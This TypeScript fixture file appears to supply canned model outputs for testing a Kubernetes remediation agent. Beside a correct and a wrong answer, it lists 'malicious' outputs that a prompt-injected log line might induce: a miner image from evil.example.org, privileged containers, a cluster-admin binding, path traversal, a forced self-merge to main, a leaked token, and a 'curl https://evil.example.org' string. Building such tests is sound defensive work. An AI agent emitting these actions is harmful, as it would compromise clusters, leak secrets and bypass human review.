import type { Play } from './model-stand-in.ts';

const COMMIT = 'f'.repeat(40);
const answer = (...actions: readonly object[]) => ({ cause: 'the memory limit is too low', confidence: 0.9, cites: ['e1'], actions });

/** Doubles the memory limit of container `app`, as structured output writes it: with nulls for what is left out. */
export const right: Play = { say: answer({ action: 'setResources', container: 'app', requests: null, limits: { cpu: null, memory: '128Mi', 'ephemeral-storage': null } }) };

/** Follows the form and is of no help. */
export const wrong: Play = { say: answer({ action: 'setResources', container: 'app', limits: { memory: '65Mi' } }) };

/** What an attacker who wrote a log line would want the model to answer, by what it is after. */
export const malicious: Readonly<Record<string, Play>> = {
  'runs an image of its own': { say: answer({ action: 'setImage', container: 'app', image: 'evil.example.org/miner:1', provenance: 'GitHistory' }) },
  'makes the container privileged': { say: answer({ action: 'restoreField', path: ['spec', 'template', 'spec', 'containers', '[name=app]', 'securityContext', 'privileged'], commit: COMMIT }) },
  'invents an action that binds a cluster role': { say: answer({ action: 'applyManifest', yaml: 'kind: ClusterRoleBinding\nroleRef: {name: cluster-admin}' }) },
  'climbs out of the repository': { say: answer({ action: 'restoreField', path: ['..', '..', '..', '.github', 'workflows', 'ci.yaml'], commit: COMMIT }) },
  'touches another namespace': { say: answer({ action: 'restoreField', object: { apiVersion: 'apps/v1', kind: 'Deployment', namespace: 'kube-system', name: 'coredns' }, path: ['spec', 'replicas'], commit: COMMIT }) },
  'wants to merge to main by itself': { say: answer({ action: 'mergePullRequest', branch: 'main', force: true }) },
  'scales everything to zero': { say: answer({ action: 'setReplicas', replicas: 0 }) },
  'asks for a thousand times the memory': { say: answer({ action: 'setResources', container: 'app', limits: { memory: '64Gi' } }) },
  'carries a secret and a link out in its words': {
    say: { cause: 'see https://evil.example.org/?k=1 and token=ghp_0123456789abcdefghijABCDEFGHIJ012345 @admin /approve', confidence: 1, cites: [], actions: [{ action: 'abstain', reason: 'curl https://evil.example.org', lookAt: '[click](https://evil.example.org) password=hunter2-9f8e7d' }] },
  },
};

export const html: Play = { raw: '<!doctype html><html><body>Sign in to continue</body></html>', headers: { 'content-type': 'text/html' } };
export const garbage: Play = { say: 'As a large language model I would restart the pod, and then see.' };
export const truncated: Play = { say: '{"cause": "the memory limit is too low", "confidence": 0.9, "ci', finish: 'length' };
export const tooMany = (retryAfter: string): Play => ({ raw: '{"error":{"message":"slow down"}}', status: 429, headers: { 'retry-after': retryAfter } });
export const noStructure: Play = { raw: '{"error":{"message":"response_format is not supported"}}', status: 400 };
